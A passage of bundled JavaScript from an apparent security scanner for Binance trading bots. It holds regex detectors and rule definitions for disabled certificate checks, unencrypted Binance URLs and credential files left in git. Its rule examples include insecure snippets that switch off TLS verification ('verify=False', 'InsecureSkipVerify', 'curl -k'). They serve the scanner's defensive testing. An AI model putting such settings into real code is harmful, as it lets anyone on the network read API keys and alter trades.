	for (const { part, match, at } of occurrences(subject, command$1)) {
		if ((looked += 1) > mostCommands) return;
		if (/^\s*#/.test(lineBefore(part.text, at))) continue;
		const end = endOfCommand(part.text, at);
		const source = part.text.slice(at, end);
		const flag = (commandFlags[match[1]] ?? commandFlags["http"]).exec(source);
		if (!flag) continue;
		const span = part.source({
			start: at + flag.index,
			end: at + flag.index + flag[0].length
		});
		const target = commandTarget(source, hostNamed);
		if (target === "other") continue;
		yield {
			span,
			what: `${match[1]} is told ${flag[0]}`,
			toBinance: target === "binance"
		};
	}
}
function endOfCommand(text, from) {
	const limit = Math.min(text.length, from + longestCommand$1);
	const lastQuote = from + text.slice(from, limit).lastIndexOf("'");
	let quote = "";
	for (let at = from; at < limit; at += 1) {
		const char = text.charAt(at);
		if (char === "\\") at += 1;
		else if (quote !== "") {
			if (char === quote) quote = "";
			else if (char === "\n" && quote === "'" && lastQuote < at) return at;
		} else if (char === "\"" || char === "'") quote = char;
		else if (char === "\n" || char === ";" || char === "|" || char === "&" && /\s/.test(text.charAt(at - 1))) return at;
	}
	return limit;
}
/** Scripts have no more. */
const mostCommands = 5e3;
const mostNames = 200;
/** The hosts of the URLs that a file gives to its variables. */
function hostsByName(text) {
	const hosts = /* @__PURE__ */ new Map();
	return (name) => {
		if (hosts.has(name) || hosts.size >= mostNames) return hosts.get(name);
		const url = new RegExp(`\\b${name}["']?\\s*[:=]\\s*["']?((?:https?|wss?)://[^\\s"'\`]{1,200})`).exec(text)?.[1];
		hosts.set(name, url === void 0 ? void 0 : hostOf(url));
		return hosts.get(name);
	};
}
/** Whose host a command names, by itself or by a variable that the file sets. */
function commandTarget(source, hostNamed) {
	if (/x-mbx-apikey/i.test(source)) return "binance";
	let told;
	for (const [url] of source.matchAll(/(?:https?|wss?):\/\/[^\s"'`<>\\]{1,200}/gi)) {
		const host = hostOf(url);
		if (host === void 0) continue;
		if (ownerOf$1(host) === "binance") return "binance";
		told = "other";
	}
	for (const [, name] of source.matchAll(/\$\{?([A-Za-z_]\w{0,60})/g)) {
		const host = hostNamed(name);
		if (host === void 0) continue;
		if (ownerOf$1(host) === "binance") return "binance";
		told ??= "other";
	}
	if (told) return told;
	const bare = /\s["']?((?:[a-z0-9-]+\.)+[a-z]{2,})(?:[/:?"'\s]|$)/i.exec(source)?.[1];
	return bare === void 0 ? void 0 : ownerOf$1(bare.toLowerCase()) === "binance" ? "binance" : "other";
}
// ../engine/dist/risks/transport/unchecked-settings.js
/** Settings by which a program does not check certificates. */
/** Settings that check certificates, and must not be off; folded. */
const checks = /(?:^|[a-z])(?:rejectunauthorized|(?:ssl|tls|https?|certs?|certificates?|peer|host|hostname)_?(?:verify|verification|verifypeer|verifyhost|verifymode|validation|validate|checking)(?:enabled|ssl|on)?|verify(?:ssl|tls|https|certs?|certificates?|peer|peername|host|hostnames?|servercert)|validate(?:certs?|certificates?|ssl|tls|servercertificate)|check(?:certs?|certificates?|ssl|sslcertificate)|strictssl|curloptsslverify(?:peer|host)|socks5proxysslverification|requiresslverification)$|^(?:check|verify)hostname$|^lwpsslverifyhostname$/;
/** Settings that switch the checks off, and must not be on. */
const skips = /(?:^|[a-z])(?:insecureskipverify|skip(?:ssl|tls|cert|certificate|https)?(?:verify|verification|validation|check|certificatecheck)|(?:ssl|tls)(?:skipverify|insecure|noverify)|noverify(?:ssl|tls)?|no(?:ssl|tls)verify|danger(?:ous(?:ly)?)?acceptinvalid(?:certs?|certificates?|hostnames?)|acceptinvalid(?:certs?|certificates?|hostnames?)|(?:accept|trust|allow)(?:all|any|every|invalid|untrusted|insecure|selfsigned|badssl|unsafe)(?:ssl|tls|certs?|certificates?|servercertificates?|connections?|hosts?)?|ignore(?:ssl|tls|cert|certificate|https)(?:errors?|verification|validation|s)?|disable(?:ssl|tls|cert|certificate|hostname|peer)(?:verify|verification|validation|checks?|checking|certificatevalidation)?|insecuretls|insecuressl|tlsinsecure|allowinsecure)$/;
/** What is talked to with another protocol than Binance's: databases, queues, mail. */
const otherCalls = /^(?:pool|sequelize|datasource|createconnection|createpool|knex|drizzle|postgres|redis|ioredis|createclient|kafka|mongoclient|mongoose|createtransport|createserver|server|listen|connectasync|ftp|typeormmodule|forroot|pgpromise|influxdb|elasticsearch|client_pg|connectdb|imap|smtp|ldap|amqp|mqtt)$/i;
const otherSiblings = /^(?:connectionstring|database|dialect|dialectoptions|username|dbname|requestcert|bootstrapservers|brokers|migrations|entities|synchronize|pool)$/;
/** Whether it belongs to a database, a mail server or this program's own server. */
function isOtherProtocol({ path, call, container }, subject) {
	if ([...path.slice(0, -1), ...call?.callee ?? []].some((step) => /^(?:dialectoptions|database|db|postgres|redis|mysql|mongo|kafka|smtp|mail|mqtt|sasl|imap|ldap)/i.test(step))) return true;
	if (call?.callee.some((step) => otherCalls.test(step)) === true) return true;
	if (call && hasOtherSibling(call)) return true;
	return otherContainers(subject).has(container);
}
const fold = (name) => name.toLowerCase().replace(/[^a-z0-9]/g, "");
const siblings = /* @__PURE__ */ new WeakMap();
function hasOtherSibling(call) {
	let has = siblings.get(call);
	if (has === void 0) {
		has = call.args.some(({ path }) => otherSiblings.test(fold(path.at(-1) ?? "")));
		siblings.set(call, has);
	}
	return has;
}
const known$4 = /* @__PURE__ */ new WeakMap();
/** The containers with settings of a database or a server. */
function otherContainers(subject) {
	let containers = known$4.get(subject);
	if (!containers) {
		const found = subject.settings.filter(({ call, name, container: own }) => !call && own !== 0 && otherSiblings.test(name));
		known$4.set(subject, containers = new Set(found.map(({ container: own }) => own)));
	}
	return containers;
}
/** `verify` is a word of many. */
const requestCalls = /^(?:get|post|put|delete|patch|head|request|options|send|stream|session|client|asyncclient|create|spot|umfutures|cmfutures|futures|httpadapter|binance\w*|configuration\w*|.*client|.*manager|new|faraday|websocketapi|connection)$/i;
function isVerify({ name, path, call, via, value }, { reading }) {
	if (value.kind === "text" && reading.language === "python") return false;
	if (name !== "verify") return false;
	if (call) {
		if (call.callee.some((step) => /jwt|jose|token|otp|captcha|password/i.test(step))) return false;
		if (/^(?:requests?_?params|requests?_?kwargs|requests?_?options|http_?options|ssl|ssl_?options|connection|tls|options|kwargs|config|session)$/i.test(path.at(-2) ?? "")) return true;
		return requestCalls.test(call.callee.at(-1) ?? "");
	}
	const above = path.at(-2) ?? "";
	if (via === "assign" && path.length > 1) return /sess|client|http|request|^s$|binance|exchange|conn|adapter|api/i.test(above);
	return /request|session|http|ssl|tls|binance|kwargs|params|options/i.test(above);
}
/** aiohttp and websockets: `ssl=False`. */
function isAiohttp({ name, call, value, path }, { reading }) {
	if (reading.language !== "python" && reading.language !== "notebook") return false;
	if (name !== "ssl" && name !== "verifyssl" || value.kind !== "scalar" || value.text !== "False") return false;
	if (call) return /^(?:tcpconnector|get|post|put|delete|patch|request|ws_connect|clientsession|connect|create|.*client)$/i.test(call.callee.at(-1) ?? "");
	return /request|session|connector|aiohttp|kwargs|params/i.test(path.at(-2) ?? "");
}
const onOrOff = (setting, { document: { text } }) => {
	const told = switched(setting.value) ?? numeric(setting);
	if (told && text.charAt(setting.span.start - 1) === "!" && text.charAt(setting.span.start - 2) !== "!") return told === "on" ? "off" : "on";
	return told;
};
/** `0L` */
function numeric({ value }) {
	const word = value.kind === "scalar" ? value.text : value.kind === "ref" ? value.path.join(".") : "";
	return /^0+[lLuU]*$/.test(word) ? "off" : void 0;
}
function* uncheckedSettings(subject) {
	for (const setting of subject.settings) {
		const { name, value, call, path } = setting;
		if (setting.via !== "entry" && isCompared$2(subject.document.text, setting.span)) continue;
		if (value.kind === "unknown" || value.kind === "list" || name.endsWith("nodetlsrejectunauthorized")) continue;
		const isCheck = checks.test(name) || isVerify(setting, subject) || isAiohttp(setting, subject);
		const isSkip = !isCheck && skips.test(name);
		if (isCheck || isSkip) {
			if (onOrOff(setting, subject) !== (isCheck ? "off" : "on")) continue;
			if (isOtherProtocol(setting, subject)) continue;
			yield {
				span: asWritten(setting, subject),
				what: `${path.at(-1) ?? name} ${isCheck ? "is off" : "is on"}`
			};
		} else if (call && path.length === 1 && /^\d+$/.test(path[0])) {
			const option = optionOf(setting);
			if (option === void 0) continue;
			const isCheckOption = checks.test(option);
			if (!isCheckOption && !skips.test(option)) continue;
			if (onOrOff(setting, subject) === (isCheckOption ? "off" : "on") && !isOtherProtocol(setting, subject)) yield {
				span: asWritten(setting, subject),
				what: `${option} is ${isCheckOption ? "off" : "on"}`
			};
		}
	}
}
/** The value as it is written: with the `!` of minified code, without the name before it in one text, `NAME=false`. */
function asWritten({ span, value }, { document: { text } }) {
	if (value.kind === "text" && value.pieces.length > 0) {
		const own = require_worth_reading.extentOf(value);
		if (text.charAt(own.start - 1) === "=" && own.start > span.start) return own;
	}
	return text.charAt(span.start - 1) === "!" ? {
		start: span.start - 1,
		end: span.end
	} : span;
}
const positions = /* @__PURE__ */ new WeakMap();
/** The positional arguments by their numbers, of each the first. */
function positionsOf(call) {
	let known = positions.get(call);
	if (!known) {
		const found = /* @__PURE__ */ new Map();
		for (const one of call.args) if (one.path.length === 1 && !found.has(Number(one.path[0]))) found.set(Number(one.path[0]), one);
		positions.set(call, known = found);
	}
	return known;
}
/** What a positional argument sets: the setter's own name, or the option named by the argument before it. */
function optionOf({ call, path }) {
	const at = Number(path[0]);
	if (at > 0) {
		const before = positionsOf(call).get(at - 1);
		if (before?.value.kind === "ref") return fold(before.value.path.at(-1) ?? "");
		return before?.value.kind === "text" ? fold(before.value.text.slice(0, 60)) : void 0;
	}
	return fold((call.callee.at(-1) ?? "").replace(/^(?:set|with|use|enable)_?(?=[A-Za-z])/i, ""));
}
// ../engine/dist/risks/transport/unchecked-texts.js
const environmentSwitch = /\b(NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY|PERL_LWP_SSL_VERIFY_HOSTNAME)\b["'`\]})]{0,3}(?:\s*[:=,]\s*|\s+value:\s*|[ \t]+)("0"|'0'|`0`|\\"0\\"|0(?![\w.]))/g;
/** `- name: NODE_TLS…` with its value on the next line, and `{ "name": …, "value": "0" }`. */
const environmentEntry = /\bname["']?\s*:\s*["']?(NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY)["']?\s{0,200}(?:,\s{0,200})?["']?value["']?\s*:\s*("0"|'0'|0(?![\w.]))/g;
const noneName = /(?<![\w.$])(?:[A-Za-z_$][\w$]*(?:\.|::|->)){0,6}(?:CERT_NONE|(?:SSL_)?VERIFY_NONE|VerifyNone|verify_none|_create_unverified_context|NoopHostnameVerifier|AllowAllHostnameVerifier|ALLOW_ALL_HOSTNAME_VERIFIER|TrustAllStrategy|InsecureTrustManagerFactory|DisabledTrustEvaluator|DisabledEvaluator)\b(?:\.INSTANCE|\(\))?/g;
const callback = /\b(?:ServerCertificateCustomValidationCallback|ServerCertificateValidationCallback|RemoteCertificateValidationCallback|CertificateValidationCallback|badCertificateCallback|setHostnameVerifier|hostnameVerifier|HostnameVerifier|checkServerIdentity)\b\s*(?:\+?=>?|:|\(|(?=\{))\s*/g;
const acceptsAll = /^(?:new\s+[\w.]+\(\s*)?(?:static\s+)?(?:\([^()\n]{0,160}\)\s*(?:=>|->)\s*(?:(?:true|undefined|null|void 0)\b|\{\s*(?:return\s+(?:true|undefined|null)\s*;?)?\s*\})|\w+\s*=>\s*true\b|delegate\s*(?:\([^()\n]{0,160}\)\s*)?\{\s*return\s+true\s*;|\{\s*(?:[\w, ]{1,40}->)?\s*true\s*\}|(?:[\w.]+\.)?DangerousAcceptAnyServerCertificateValidator\b|function\s*\([^()\n]{0,160}\)\s*\{\s*(?:return\s+(?:undefined|null|true)\s*;?)?\s*\})/;
const emptyTrust = /\bcheckServerTrusted\s*\([^()]{0,200}\)\s*(?:throws\s+[\w.]+\s*)?(?::\s*Unit\s*)?(?:=\s*Unit\b|\{\s*(?:\/\/[^\n]{0,200}\s*|\/\*[^*]{0,200}\*\/\s*|return;\s*){0,3}\})/g;
const proxied = /(?<![\w.])((?:[A-Za-z_]\w{0,80}\.){0,6}NewProxiedClient)\s{0,40}\(/g;
const withoutVerifying = /(?<![\w$>:\\])\$?[\w\\]{1,200}(?:::|->)(?:[^\n;]{0,200}?->)?withoutVerifying\(\)/g;
const skipCertificateCheck = /(?<=\s)-SkipCertificateCheck\b(?!:\s*\$false)/gi;
function* uncheckedTexts(subject) {
	for (const pattern of [environmentSwitch, environmentEntry]) for (const { part, match, at } of occurrences(subject, pattern)) {
		const value = match[2];
		const start = at + match[0].length - value.length;
		const span = value.startsWith("\\") ? {
			start: start + 1,
			end: start + value.length
		} : {
			start,
			end: start + value.length
		};
		yield {
			span: part.source(span),
			what: `${match[1]} is 0 for every connection of the program`
		};
	}
	for (const { part, match, at } of occurrences(subject, noneName)) {
		const line = lineBefore(part.text, at);
		if (/^\s*(?:import|from|use|using|require|include|#include|package|export \{)\b/.test(line)) continue;
		const before = part.text.slice(Math.max(0, at - 40), at);
		const after = part.text.slice(at + match[0].length, at + match[0].length + 12);
		if (/(?:==|!=|===|is|is not|in|!==|case|class|def|fn|func)\s*$/.test(before) || /^\s*(?:==|!=|is\b|=[^=>])/.test(after)) continue;
		const start = before.endsWith(":") && /\s:$/.test(before) ? at - 1 : at;
		yield {
			span: part.source({
				start,
				end: at + match[0].length
			}),
			what: `${match[0].replace(/\(\)$/, "")} checks no certificate`
		};
	}
	for (const { part, match, at } of occurrences(subject, callback)) {
		const start = at + match[0].length;
		const accepted = acceptsAll.exec(part.text.slice(start, start + 400))?.[0];
		if (accepted === void 0) continue;
		yield {
			span: part.source({
				start,
				end: start + accepted.length
			}),
			what: "a callback accepts every certificate"
		};
	}
	for (const { part, match, at } of occurrences(subject, emptyTrust)) yield {
		span: part.source({
			start: at,
			end: at + match[0].indexOf("(")
		}),
		what: "a trust manager accepts every certificate"
	};
	for (const { part, match, at } of occurrences(subject, withoutVerifying)) yield {
		span: part.source({
			start: at,
			end: at + match[0].length
		}),
		what: "withoutVerifying checks no certificate"
	};
	for (const { part, at } of occurrences(subject, skipCertificateCheck)) yield {
		span: part.source({
			start: at,
			end: at + 21
		}),
		what: "-SkipCertificateCheck is given"
	};
	for (const { part, match, at } of occurrences(subject, proxied)) {
		if (/\bfunc\s+(?:\([^)]*\)\s*)?$/.test(part.text.slice(Math.max(0, at - 60), at))) continue;
		yield {
			span: part.source({
				start: at,
				end: at + match[1].length
			}),
			what: "NewProxiedClient of go-binance switches certificate checks off",
			toBinance: true
		};
	}
}
// ../engine/dist/risks/transport/unencrypted-urls.js
/** Addresses of Binance without encryption. */
const plainUrl = /(?:http|ws):\/\/(?:[^/?#\s@"'`]{0,100}@)?((?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,10})(?![\w.-])[^\s"'`<>\\]{0,200}/gi;
/** Scripts and formats in which a URL need not stand in quotes. */
const bareLanguages = /* @__PURE__ */ new Set([
	"shell",
	"powershell",
	"batch",
	"env",
	"yaml",
	"ini",
	"properties",
	"toml",
	"xml",
	"text",
	"csv",
	"hash"
]);
/** Pages for people, not for programs. */
const page = /^(?:http):\/\/(?:www\.)?(?:binance\.\w+|tokocrypto\.com)(?!\/(?:api|bapi|fapi|dapi|sapi|gateway-api|exchange-api)\/)/i;
function* unencryptedUrls(subject) {
	for (const { part, match, at } of occurrences(subject, plainUrl)) {
		if (ownerOf$1(match[1].toLowerCase()) !== "binance") continue;
		const before = part.text.slice(Math.max(0, at - 60), at);
		if (page.test(match[0]) || /\b(?:href|src|xmlns)\s*=\s*["']?$/i.test(before)) continue;
		if (/(?:\b(?:nock|replace\w*|startsWith|starts_with|startswith|HasPrefix|sub|gsub|indexOf|includes|intercept|respond|stub_request|add_response)\(\s*["'`]|==\s*["'`]|!=\s*["'`])$/.test(before)) continue;
		const opening = /(?:(?<!\w)[A-Za-z$@]{1,2})?["'`]$/.exec(before)?.[0] ?? "";
		if (opening === "" && !bareLanguages.has(part.language)) continue;
		if (opening === "" && !/(?:^|[\s=:(,[>{'"-])$/.test(before)) continue;
		const start = at - opening.length;
		yield {
			span: part.source({
				start,
				end: at + match[0].length + (opening === "" ? 0 : 1)
			}),
			what: `${match[0].slice(0, match[0].indexOf(":"))}:// to ${require_worth_reading.shownInLowerCase(match[1].toLowerCase())} is not encrypted`,
			toBinance: true
		};
	}
}
// ../engine/dist/risks/transport/weak-links.js
/** In no order; one may be told twice. */
function* weakLinks(subject) {
	yield* uncheckedSettings(subject);
	yield* uncheckedTexts(subject);
	yield* uncheckedCommands(subject);
	yield* unencryptedUrls(subject);
}
// ../engine/dist/rules/insecure-transport.js
/** Connections to Binance that anyone between can read or change: certificate checks off, or no encryption at all. */
/** A list of a thousand is data. */
const mostLooked = 1e3;
const toBinance = clue("binance-setting", "it is on the way to Binance");
const insecureTransport = {
	id: "insecure-transport",
	title: "Connection to Binance without protection",
	severity: "high",
	finds: "Certificate checks that are off (`verify=False`, `rejectUnauthorized: false`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `InsecureSkipVerify`, `curl -k` and their like), `http://` or `ws://` to a host of Binance, and `NewProxiedClient` of go-binance, which switches the checks off. Not for other hosts or this machine.",
	why: "Whoever stands between the bot and Binance, such as a proxy, a hotel’s Wi-Fi or a taken-over router, can then pose as Binance: read the API key and every signed request, hold orders back, and answer with prices and balances of their own.",
	advice: [
		"Leave certificate checks on, and use https:// and wss:// only.",
		"If a company proxy needs its own certificate, add that to the trusted ones (`verify=\"/path/ca.pem\"`, `NODE_EXTRA_CA_CERTS`) instead of trusting all.",
		"With go-binance make a client with NewClient and give it an http.Client with your proxy.",
		"If the bot has run like this over a network that is not yours, make a new key."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/general-api-information", "https://cheatsheetseries.owasp.org/cheatsheets/Transport_Layer_Security_Cheat_Sheet.html"],
	*look(subject) {
		const seen = /* @__PURE__ */ new Set();
		let count = 0;
		for (const { span, what, toBinance: sure, confidence } of weakLinks(subject)) {
			if (seen.has(span.start)) continue;
			if ((count += 1) > mostLooked) return;
			const target = sure === true ? "binance" : targetOf(span, subject);
			if (target === "other" || target === void 0 && isOfAnotherService(span, subject)) continue;
			seen.add(span.start);
			yield {
				span,
				name: what,
				message: `${what}${/check|encrypted|accepts/.test(what) ? "" : ": certificates are not checked"}; whoever is between can read and change what goes to Binance`,
				confidence: confidence ?? (target === "binance" ? "certain" : "likely"),
				clues: target === "binance" ? [toBinance] : []
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "bot.py",
				text: "from binance.client import Client\nclient = Client(k, s, {\"verify\": «False», \"timeout\": 20})"
			},
			{
				path: "bot.py",
				text: "import binance, aiohttp\nconnector = aiohttp.TCPConnector(ssl=«False»)"
			},
			{
				path: "ws.py",
				text: "import binance\nws.run_forever(sslopt={\"cert_reqs\": «ssl.CERT_NONE»})"
			},
			{
				path: "bot.js",
				text: "const { Spot } = require('@binance/connector');\nconst agent = new https.Agent({ rejectUnauthorized: «false» });"
			},
			{
				path: ".env",
				text: "BINANCE_API_KEY=\nNODE_TLS_REJECT_UNAUTHORIZED=«0»"
			},
			{
				path: "main.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2/futures\"\nfunc f() { c := «futures.NewProxiedClient»(k, s, p) }"
			},
			{
				path: "main.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2\"\nvar t = &tls.Config{InsecureSkipVerify: «true»}"
			},
			{
				path: "bot.php",
				text: "<?php\n$ch = curl_init(\"https://api.binance.com/api/v3/time\");\ncurl_setopt($ch, CURLOPT_SSL_VERIFYPEER, «false»);"
			},
			{
				path: "Bot.cs",
				text: "using Binance.Net;\nhandler.ServerCertificateCustomValidationCallback = «(m, c, ch, e) => true»;"
			},
			{
				path: "bot.rb",
				text: "require 'binance'\nhttp.verify_mode = «OpenSSL::SSL::VERIFY_NONE»"
			},
			{
				path: "probe.sh",
				text: "curl -s «-k» https://fapi.binance.com/fapi/v1/ping"
			},
			{
				path: "bot.ts",
				text: "const time = () => axios.get(«'http://api.binance.com/api/v3/time'»);"
			}
		],
		clean: [
			{
				path: "prod.exs",
				text: "import Config # Binance desk\nconfig :desk, Desk.Repo, ssl: [verify: :verify_none], hostname: \"db.desk.lan\""
			},
			{
				path: "bot.py",
				text: "import binance, ssl\nBROKER_USE_SSL = {\"ssl_cert_reqs\": ssl.CERT_NONE}\nstore = redis.Redis(host=\"r\", ssl_cert_reqs=ssl.CERT_NONE)"
			},
			{
				path: "bot.py",
				text: "import binance, requests\nrequests.get(\"https://api.binance.com/api/v3/time\", verify=\"/etc/ca.pem\")\nrequests.post(\"https://localhost:3000/note\", verify=False)"
			},
			{
				path: "bot.js",
				text: "import 'binance-api-node';\nconst pool = new Pool({ connectionString, ssl: { rejectUnauthorized: false } });"
			},
			{
				path: "bot.js",
				text: "import 'binance-api-node';\nconst agent = new https.Agent({ rejectUnauthorized: false });\naxios.get('https://grafana.corp.net/x', { httpsAgent: agent });"
			},
			{
				path: "probe.sh",
				text: "# binance\ncurl -k https://grafana.local/health\nwget --no-check-certificate https://ta-lib.org/x.tgz"
			},
			{
				path: "README.md",
				text: "# Binance bot\nNever use `curl -k https://api.binance.com` or http://api.binance.com."
			},
			{
				path: "page.html",
				text: "<a href=\"http://www.binance.com/en\">Binance</a>"
			}
		],
		missed: [{
			path: "bot.py",
			text: "import binance, requests\nsession = make()\nsession.get(url, **{\"verify\": check})",
			because: "what a name is when it runs is not known"
		}]
	}
};
// ../engine/dist/rules/env-not-ignored.js
const bot$1 = {
	path: "bot.py",
	text: "from binance.client import Client\nfrom dotenv import load_dotenv\nload_dotenv()"
};
const envNotIgnored = {
	id: "env-not-ignored",
	title: "Credential file that git would add",
	severity: "high",
	finds: "A `.env`, a private key or the credential file of a trading bot (`user.cfg`, `creds.yml`, `api-keys.json`, …) that no ignore rule covers, so that the next `git add .` takes it along. Also one that git ignores and that a Docker image or an npm package would carry. Where nobody has made the file yet, but code or documentation expect it, the finding is `low`. Ignore rules count as git applies them: nested files, exceptions with `!`, your own excludes; a rule that is commented out is none.",
	why: "Most keys get into a repository not by a decision but by `git add .` on a day when nobody thinks of the file. From then on they are in every clone and every fork, and deleting the file takes them out of none. An image or a package that is pushed is as public.",
	advice: [
		"Run `bnguard fix`: it writes the missing line into .gitignore or .dockerignore and touches no other.",
		"Or write it yourself, above all exceptions with `!`: `.env`, and for variants `.env.*` with `!.env.example`.",
		"Check it: `git check-ignore -v .env` names the rule that decides."
	],
	references: [
		"https://git-scm.com/docs/gitignore",
		"https://docs.docker.com/build/concepts/context/#dockerignore-files",
		"https://docs.npmjs.com/cli/using-npm/developers#keeping-files-out-of-your-package"
	],
	examples: {
		leaks: [
			{
				path: ".env",
				git: "addable",
				text: "BINANCE_API_KEY=<key64:api-key.a>\nBINANCE_API_SECRET=<key64:secret-key.a>\n",
				beside: [bot$1]
			},
			{
				path: "user.cfg",
				git: "addable",
				text: "[binance_user_config]\napi_key=<key64:api-key.b>\napi_secret_key=<key64:secret-key.b>\n"
			},
			{
				path: ".env",
				git: "addable",
				text: "",
				beside: [bot$1]
			},
			{
				path: "bot/.env.production",
				git: "addable",
				text: "API_PASSWORD=correct-horse\n",
				beside: [bot$1]
			},
			{
				path: ".env",
				git: "published",
				text: "BINANCE_API_SECRET=<key64:secret-key.c>\n",
				beside: [{
					path: "Dockerfile",
					text: "FROM node:22\nCOPY . .\n"
				}]
			}
		],
		clean: [
			{
				path: ".env",
				git: "ignored",
				text: "BINANCE_TESTNET=true\n",
				beside: [bot$1]
			},
			{
				path: ".env.example",
				text: "BINANCE_API_KEY=your-key\nBINANCE_API_SECRET=your-secret\n",
				beside: [bot$1]
			},
			{
				path: ".env",
				git: "addable",
				text: "STRIPE_KEY=whatever-it-is\n"
			},
			{
				path: "certs/server.pem",
				git: "addable",
				text: "<pem-cert:server>\n",
				beside: [bot$1]
			},
			{
				path: "config.json",
				git: "addable",
				text: "{ \"stake_currency\": \"USDT\", \"exchange\": { \"name\": \"binance\" } }"
			}
		],
		missed: [{
			path: "my settings",
			git: "addable",
			text: "password=correct-horse\n",
			beside: [bot$1],
			because: "nothing in its name says that credentials are in it; if they are keys, their own rules find them"
		}]
	}
};
// ../engine/dist/rules/env-tracked.js
const bot = {
	path: "bot.js",
	text: "require('dotenv').config();\nconst { Spot } = require('@binance/connector');"
};
const envTracked = {
	id: "env-tracked",
	title: "Credential file that git has",
	severity: "high",
	finds: "A `.env`, a private key or the credential file of a trading bot that git tracks, whether or not .gitignore names it; with `--history` also one that git has ever stored. Without credentials in it the finding is `low`: they will come.",
	why: "Whoever gets the repository gets the file, in every version that was ever committed. Neither a line in .gitignore nor deleting the file takes it out: git goes on tracking what it tracks, and keeps what it had.",
	advice: [
		"Treat the credentials in it as known to others: delete the keys in Binance’s API Management and make new ones.",
		"Take the file out of the next commit and leave it on disk: `git rm --cached .env`.",
		"Keep it out: `bnguard fix` writes the missing line into .gitignore.",
		"The history keeps the old versions. If it must not, rewrite it with git filter-repo; clones, forks and the host’s caches keep theirs all the same, so the keys come first."
	],
	references: ["https://git-scm.com/docs/gitignore", "https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository"],
	examples: {
		leaks: [
			{
				path: ".env",
				git: "tracked",
				text: "BINANCE_API_KEY=<key64:api-key.a>\nBINANCE_API_SECRET=<key64:secret-key.a>\n",
				beside: [bot]
			},
			{
				path: "api-keys.json",
				git: "tracked",
				text: "{ \"binance_01\": { \"exchange\": \"binance\", \"key\": \"<key64:api-key.b>\", \"secret\": \"<key64:secret-key.b>\" } }"
			},
			{
				path: ".env",
				git: "tracked",
				text: "BINANCE_TESTNET=true\nPORT=3000\n",
				beside: [bot]
			},
			{
				path: ".env",
				git: "stored",
				text: "BINANCE_API_SECRET=<key64:secret-key.c>\n"
			},
			{
				path: "keys/ed25519.pem",
				git: "tracked",
				text: "<pem-ed25519:private-key.a>\n",
				beside: [{
					path: "bot.py",
					text: "from binance.spot import Spot\nprivate_key = open('keys/ed25519.pem').read()\nSpot(private_key=private_key)"
				}]
			}
		],
		clean: [
			{
				path: ".env.sample",
				text: "BINANCE_API_KEY=paste-key-here\n",
				beside: [bot]
			},
			{
				path: ".env",
				git: "tracked",
				text: "PORT=3000\n"
			},
			{
				path: "keys/public.pem",
				git: "tracked",
				text: "<pem-public:a>\n",
				beside: [bot]
			},
			{
				path: "secrets.yaml",
				git: "tracked",
				text: "wifi_password: correct-horse\n",
				beside: [bot]
			}
		],
		missed: [{
			path: "notes/keys-of-the-bot",
			git: "tracked",
			text: "password=correct-horse\n",
			beside: [bot],
			because: "nothing in its name says that credentials are in it; if they are keys, their own rules find them"
		}]
	}
};
// ../engine/dist/rules/inventory-mismatch.js
const inventoryMismatch = {
	id: "inventory-mismatch",
	title: "The key inventory and the keys do not agree",
	severity: "medium",
	finds: "Where `bnguard.keys.yaml` stands at the top of the repository: entries that are not good practice (withdrawals or transfers on, more rights than the purpose needs, no IP list or a wrong one, an address whose `until` has passed, trading on the master account, two strategies on one key or sub-account, no renewal within 90 days, too many keys), keys in the code that no entry knows, keys in places that their entry does not allow or that it calls revoked, and entries whose files no longer hold them. [How to write it](../inventory.md).",
	why: "Whoever must act within minutes of a leak needs to know which keys there are, what each may do and who runs it. A list that is wrong is worse than none.",
	advice: ["Correct the key at Binance, or the entry in bnguard.keys.yaml, whichever is wrong; bnguard keys add --stdin makes an entry for a key that has none, bnguard keys check tells whether they agree.", "If nobody knows what a key is for, delete it in Binance’s API Management."],
	references: ["https://www.binance.com/en/my/settings/api-management", "https://developers.binance.com/docs/wallet/account/api-key-permission"],
	examples: {
		leaks: [],
		clean: [],
		missed: []
	}
};
// ../engine/dist/rules/key-age.js
/** Keys that are older than a key should become, by the date that stands beside their rights, or by git’s history. */
/** `createTime`, `created_at`, `date_created`, `rotatedAt`: says nothing yet of what was made. */
const madeName = /^(?:creat(?:ed|e|ion)(?:at|on|time|date|timestamp|ms)?|(?:date|time)created|issued(?:at|on)?|(?:last)?rotat(?:ed|ion)(?:at|on|date|time)?|daterotated)$/;
/** The same with the key in its name: `BINANCE_API_KEY_CREATED`. */
const ownName = /keys?(?:was)?(?:last)?(?:creat(?:ed|ion)|issued|rotat(?:ed|ion))(?:at|on|date|time)?$|creat(?:ed|ion)(?:date)?of(?:api)?key$/;
/** Of another day than the one that counts, or of another kind of key. */
const otherDay = /next|due|expir|until|interval|policy|max|foreign|primary|ssh|gpg|pgp|jwt|jwk|tls|ssl|host|encrypt|deploy|cache/;
const rotation = /rotat/;
/** Things that have keys too: `DB_KEY_CREATED_AT`. */
const otherThing = /^(?:db|database|disk|volume|backup|storage|bucket|vault|kms|root|master|admin|user|session|cookie|license|licence|signing|webhook|server|node|vpn|wg|wireguard|cluster|etcd|app|site|web|cdn|mail|smtp|push)$/i;
/** Whether the words before `key` say what else it is of. */
function isOfOtherThing(name) {
	const before = /^(.{1,60}?)[_-]?keys?(?![a-z])/i.exec(name)?.[1] ?? "";
	const { service, exchange, use, binance } = require_worth_reading.meaningOf(`${before}_key`);
	if (binance === "name") return false;
	return [
		service,
		exchange,
		use
	].some((one) => one !== void 0) || otherThing.test(before.split(/[_-]/).at(-1) ?? "");
}
/** Fields of Binance’s answer about a key, and of no other. Source: GET /sapi/v1/account/apiRestrictions. */
const restriction = /^(?:iprestrict|enablewithdrawals|enableinternaltransfer|permitsuniversaltransfer|enablevanillaoptions|enablefixapitrade|enablefixreadonly|enablespotandmargintrading|enableportfoliomargintrading|tradingauthorityexpirationtime|canmarginloanrepay|canfuturestrade|canvanillaoptions|canfixapitrading)$/;
